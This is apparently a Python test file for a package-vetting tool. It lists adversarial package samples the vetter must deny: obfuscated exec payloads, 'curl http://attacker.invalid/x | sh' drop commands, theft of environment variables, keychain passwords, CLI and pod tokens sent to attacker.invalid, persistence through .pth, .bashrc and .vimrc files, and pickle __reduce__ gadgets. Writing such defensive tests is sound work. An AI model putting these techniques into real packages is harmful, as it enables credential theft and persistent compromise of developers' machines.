"""What a patient adversary who has read the vetting tries next (ADR 0080): code spelt as a
list of numbers or one character at a time, code kept in a data file and run, a logging
configuration file that sends records away, a ``.pth`` written into a folder that does not
fold, string building the folder did not read, callables reached through a default, a
walrus in a comprehension, a class attribute wrapped in ``staticmethod``, a ``__reduce__``
gadget copied or pickled, ``os`` reached through another module, tokens read from
command-line tools, a pod's token, a mail store, and files editors and shells run on start.

Each sample is inert (a command ``id`` or a download from ``attacker.invalid``; vetting
only reads files) and each was allowed or only held on b03b7c6. The near-misses are the
shapes real packages use, and stay allowed."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.logconfig import network_handlers
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_wheel

DROP = "curl http://attacker.invalid/x | sh"
CODE = "import os;os.system('id')"
INTS = list(CODE.encode())
POST = "requests.post('https://attacker.invalid/u', data={data})"
HERE = "os.path.join(os.path.dirname(__file__), {name!r})"
LOG_INI = (
    "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n"
    "[logger_root]\nlevel=DEBUG\nhandlers=h\n[handler_h]\nclass={cls}\nargs={args}\n"
)


def _with(text: str, **others: str) -> dict[str, str]:
    """A package whose ``__init__.py`` is ``text``, with other members beside it (a keyword's
    last ``_`` is the dot of the member's name: ``log_ini`` is ``log.ini``)."""
    named = {"{}.{}".format(*k.rsplit("_", 1)): v for k, v in others.items()}
    return {**init(text), **{f"evpkg/{k}": v for k, v in named.items()}}


DENIED: dict[str, dict[str, str]] = {
    # Code spelt as a list of numbers, or one character at a time, and run.
    "exec-of-bytes-from-a-list": init(
        f"import builtins\ngetattr(builtins, 'ex' + 'ec')(bytes({INTS}).decode())\n"
    ),
    "exec-of-a-bytearray": init(f"exec(bytearray({INTS}).decode())\n"),
    "exec-of-chr-mapped-and-joined": init(f"exec(''.join(map(chr, {INTS})))\n"),
    "exec-of-chr-in-a-generator": init(
        f"exec(''.join(chr(c - 1) for c in {[c + 1 for c in INTS]}))\n"
    ),
    "exec-of-numbers-in-a-string": init(
        f"exec(bytes(int(x) for x in {' '.join(map(str, INTS))!r}.split()).decode())\n"
    ),
    "exec-of-hex-numbers-in-a-string": init(
        f"exec(''.join(chr(int(x, 16)) for x in {' '.join(f'{c:02x}' for c in INTS)!r}.split()))\n"
    ),
    "exec-of-bytes-through-str": init(f"exec(str(bytes({INTS}), 'utf-8'))\n"),
    "exec-of-struct-packed-bytes": init(
        f"import struct\nexec(struct.pack('{len(INTS)}B', *{INTS}).decode())\n"
    ),
    "exec-of-an-array-of-bytes": init(
        f"import array\nexec(array.array('B', {INTS}).tobytes().decode())\n"
    ),
    "exec-of-chr-calls-added": init("exec(" + " + ".join(f"chr({c})" for c in INTS) + ")\n"),
    "exec-of-chr-joined-by-an-empty-str": init(f"exec(str().join(map(chr, {INTS})))\n"),
    "exec-of-quoted-printable": init(
        "import quopri\nexec(quopri.decodestring(b'import os;os.system(=27id=27)'))\n"
    ),
    # Code kept in a data file and run on import: nobody reading the modules sees it.
    "process-from-a-data-file": _with(
        f"import os\nexec(open({HERE.format(name='data.txt')}).read())\n", data_txt=CODE
    ),
    "process-from-package-data": _with(
        "import pkgutil\nexec(pkgutil.get_data(__name__, 'data.txt'))\n", data_txt=CODE
    ),
    # A logging configuration file that sends every record to another host.
    "environment-logged-through-a-config-file": _with(
        "import logging, logging.config, os\n"
        f"logging.config.fileConfig({HERE.format(name='log.ini')})\n"
        "logging.getLogger('x').warning('%s', dict(os.environ))\n",
        log_ini=LOG_INI.format(
            cls="logging.handlers.HTTPHandler", args="('attacker.invalid', '/log', 'POST')"
        ),
    ),
    # A .pth whose import line runs at every start, in a folder that does not fold.
    "pth-beside-argv": init(
        "import sys\nopen(sys.argv[0] + 'zz.pth', 'w').write('import evpkg.x')\n"
    ),
    "pth-through-pathlib": init(
        "import sys\nfrom pathlib import Path\n"
        "p = Path(sys.executable).parent / 'Lib' / 'site-packages' / 'zz.pth'\n"
        "p.write_text('import evpkg.x')\n"
    ),
    "pth-in-a-path-object-of-two-parts": init(
        "import os\nfrom pathlib import Path\n"
        "Path(os.environ.get('VIRTUAL_ENV', '.'), 'zz.pth').write_text('import evpkg.x')\n"
    ),
    "pth-in-every-folder-of-sys-path": init(
        "import sys\nfor d in sys.path:\n    if d.endswith('site-packages'):\n"
        "        open(d + '/zz.pth', 'w').write('import evpkg.x')\n"
    ),
    "pth-named-by-a-format": init(
        "import sys\nopen('{}/zz.pth'.format(sys.prefix), 'w').write('import evpkg.x')\n"
    ),
    "pth-named-by-percent": init(
        "import sys\nopen('%s/zz.pth' % sys.prefix, 'w').write('import evpkg.x')\n"
    ),
    "bashrc-through-a-named-path-object": init(
        f"from pathlib import Path\np = Path.home() / '.bashrc'\np.write_text({DROP!r})\n"
    ),
    "usercustomize-through-pathlib": init(
        "import sys\nfrom pathlib import Path\n"
        f"(Path(sys.exec_prefix) / 'usercustomize.py').write_text({CODE!r})\n"
    ),
    # String building the folding did not read: the command was unreadable, only noted.
    "command-through-swapcase": init(f"import os\nos.system({DROP.upper()!r}.swapcase())\n"),
    "command-through-removeprefix": init(
        f"import os\nos.system('zzz{DROP}'.removeprefix('zzz'))\n"
    ),
    "command-through-operator-add": init(
        f"import os, operator\nos.system(operator.add({DROP[:14]!r}, {DROP[14:]!r}))\n"
    ),
    "command-through-format-map": init(
        "import os\nos.system('{a} http://attacker.invalid/x | {b}'.format_map("
        "{'a': 'curl', 'b': 'sh'}))\n"
    ),
    # A sink reached as a default, bound by a walrus in a comprehension, or wrapped.
    "sink-as-a-dict-default": init(f"import os\nD = {{}}\nD.get('x', os.system)({DROP!r})\n"),
    "sink-as-a-getattr-default": init(
        f"import os\n\n\nclass O:\n    pass\n\n\ngetattr(O(), 'zz', os.system)({DROP!r})\n"
    ),
    "sink-bound-by-a-walrus-in-a-comprehension": init(
        f"import os\n[(f := os.system) for _ in 'a']\nf({DROP!r})\n"
    ),
    "sink-as-a-staticmethod": init(
        f"import os\n\n\nclass K:\n    r = staticmethod(os.system)\n\n\nK.r({DROP!r})\n"
    ),
    "sink-as-an-annotated-class-attribute": init(
        f"import os\n\n\nclass K:\n    r: object = os.system\n\n\nK.r({DROP!r})\n"
    ),
    "sink-through-singledispatch": init(
        f"import os, functools\nrun = functools.singledispatch(os.system)\nrun({DROP!r})\n"
    ),
    # A __reduce__ gadget run by copying or by reading the pickle back.
    "reduce-gadget-copied": init(
        "import os, copy\n\n\nclass K:\n    def __reduce__(self):\n"
        f"        return (os.system, ({DROP!r},))\n\n\ncopy.copy(K())\n"
    ),
    "reduce-gadget-pickled-and-read": init(
        "import os, pickle\n\n\nclass K:\n    def __reduce__(self):\n"
        f"        return (os.system, ({DROP!r},))\n\n\npickle.loads(pickle.dumps(K()))\n"
    ),
    # os reached through a module that imports it.
    "environment-through-subprocess-os": init(
        "import subprocess, requests\n"
        + POST.format(data="str(dict(subprocess.os.environ))")
        + "\n"
    ),
    # Credentials read from tools, a pod's token, a mail store as the channel.
    "keychain-password-sent": init(
        "import subprocess, requests\n"
        "p = subprocess.check_output(['security', 'find-generic-password', '-wa', 'Chrome'])\n"
        + POST.format(data="p")
        + "\n"
    ),
    "cli-token-sent-on-import": init(
        "import subprocess, requests\n"
        "t = subprocess.check_output('gh auth token', shell=True)\n" + POST.format(data="t") + "\n"
    ),
    "pod-token-sent": init(
        "import requests\n"
        "t = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n"
        + POST.format(data="t")
        + "\n"
    ),
    "credential-manager-sent": init(
        "import win32cred, requests\n"
        + POST.format(data="str(win32cred.CredEnumerate(None, 0))")
        + "\n"
    ),
    "environment-appended-to-a-mail-store": init(
        "import os, imaplib\nm = imaplib.IMAP4_SSL('attacker.invalid')\n"
        "m.append('INBOX', None, None, str(dict(os.environ)).encode())\n"
    ),
    # Files editors, terminals and shells run commands from when they start.
    "vimrc-appended": init(
        f"import os\nopen(os.path.expanduser('~/.vimrc'), 'a').write('\\n:silent !{DROP}\\n')\n"
    ),
    "tmux-conf-appended": init(
        "import os\nopen(os.path.expanduser('~/.tmux.conf'), 'a').write("
        f"'run-shell \"{DROP}\"\\n')\n"
    ),
    "envrc-written": init(
        f"import os\nopen(os.path.expanduser('~/.envrc'), 'w').write('{DROP}\\n')\n"
    ),
    "ipython-config-appended": init(
        "import os\n"
        "p = os.path.expanduser('~/.ipython/profile_default/ipython_config.py')\n"
        "open(p, 'a').write('c.InteractiveShellApp.exec_lines = [\"import evpkg.x\"]\\n')\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    # Numbers that are a magic number or a greeting, not code.
    "magic-numbers-and-a-greeting": init(
        "import struct\n"
        "PNG = bytes([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13])\n"
        "HEADER = struct.pack('8B', 1, 2, 3, 4, 5, 6, 7, 8)\n"
        "SEP = chr(13) + chr(10) + chr(13) + chr(10) + chr(45) + chr(45) + chr(45) + chr(45)\n"
        "HELLO = ''.join(map(chr, [72, 101, 108, 108, 111, 44, 32, 119, 111, 114, 108, 100]))\n"
    ),
    # A version module run as code, and a logging file that logs locally or nothing secret.
    "version-file-run": _with(
        f"import os\nexec(open({HERE.format(name='_version.py')}).read())\n",
        _version_py="__version__ = '1.0'\n",
    ),
    "environment-logged-to-stderr-through-a-config-file": _with(
        "import logging, logging.config, os\n"
        f"logging.config.fileConfig({HERE.format(name='log.ini')})\n"
        "logging.getLogger('x').debug('env %s', dict(os.environ))\n",
        log_ini=LOG_INI.format(cls="StreamHandler", args="(sys.stderr,)"),
    ),
    "start-logged-to-a-collector-through-a-config-file": _with(
        "import logging, logging.config, os\n"
        f"logging.config.fileConfig({HERE.format(name='log.ini')})\n"
        "logging.getLogger('x').info('started')\n",
        log_ini=LOG_INI.format(
            cls="handlers.HTTPHandler", args="('logs.example.com', '/log', 'POST')"
        ),
    ),
    # A .pth of source folders, and an installer's .pth written when asked.
    "pth-of-source-folders-in-an-unknown-folder": init(
        "import sys\nfrom pathlib import Path\nd = Path(sys.argv[0]).parent\n"
        "(d / 'evpkg.pth').write_text('/opt/evpkg/src\\n')\n"
    ),
    "installer-pth-written-when-asked": init(
        "import os\n\n\ndef install(site):\n"
        "    with open(os.path.join(site, '_evpkg.pth'), 'w') as f:\n"
        "        f.write('import _evpkg_hook\\n')\n"
    ),
    # Text built with the newly folded methods, and defaults that are not sinks.
    "titles-and-prefixes": init(
        "NAME = 'evpkg tools'.title()\nTAG = 'v1.0'.removeprefix('v')\n"
        "LABEL = '{a}-{b}'.format_map({'a': NAME, 'b': TAG})\n"
    ),
    "logger-method-by-getattr-default": init(
        "import logging\nlog = getattr(logging, 'trace', logging.debug)\nlog('imported')\n"
    ),
    "tool-name-by-dict-default": init(
        "import subprocess\n\n\ndef describe():\n    tool = {}.get('vcs', 'git')\n"
        "    return subprocess.run([tool, 'describe'], capture_output=True).stdout\n"
    ),
    "staticmethod-of-a-builtin": init(
        "class K:\n    size = staticmethod(len)\n\n\nN = K.size('abc')\n"
    ),
    "walrus-in-a-comprehension": init("[(n := len(w)) for w in ('a', 'bb')]\nLAST = n\n"),
    # A value class copied on import rebuilds itself.
    "value-class-copied": init(
        "import copy\n\n\nclass P:\n    def __init__(self, x):\n        self.x = x\n\n"
        "    def __reduce__(self):\n        return (P, (self.x,))\n\n\nORIGIN = copy.copy(P(0))\n"
    ),
    # Credential helpers a library runs when asked, and a token sent to its own service.
    "keychain-read-when-asked": init(
        "import subprocess\n\n\ndef password(service):\n    return subprocess.check_output(\n"
        "        ['security', 'find-generic-password', '-w', '-s', service]).strip()\n"
    ),
    "cli-token-sent-to-its-service-when-asked": init(
        "import subprocess, requests\n\n\ndef me():\n"
        "    t = subprocess.check_output(['gh', 'auth', 'token']).decode().strip()\n"
        "    return requests.get('https://api.github.com/user',\n"
        "                        headers={'Authorization': 'token ' + t}).json()\n"
    ),
    "vimrc-read": init(
        "import os\n\n\ndef settings():\n    p = os.path.expanduser('~/.vimrc')\n"
        "    return open(p).read() if os.path.exists(p) else ''\n"
    ),
    "mail-fetched-when-asked": init(
        "import imaplib\n\n\ndef unread(host, user, pw):\n    m = imaplib.IMAP4_SSL(host)\n"
        "    m.login(user, pw)\n    return m.search(None, 'UNSEEN')\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_an_adversarys_try_is_denied_and_a_real_shape_allowed(
    files: dict[str, str], expected: Outcome
) -> None:
    assert vet_wheel(files) is expected


def test_a_logging_file_names_its_network_handlers_only() -> None:
    """``fileConfig`` resolves a bare class in ``logging``; a file that does not parse, or
    names only local handlers, makes none."""
    text = LOG_INI.format(cls="handlers.SocketHandler", args="('attacker.invalid', 9020)")
    assert network_handlers(text) == [
        ("logging.handlers.SocketHandler", "('attacker.invalid', 9020)")
    ]
    assert network_handlers(LOG_INI.format(cls="FileHandler", args="('x.log',)")) == []
    assert network_handlers("[handler_h\nclass=handlers.HTTPHandler") == []
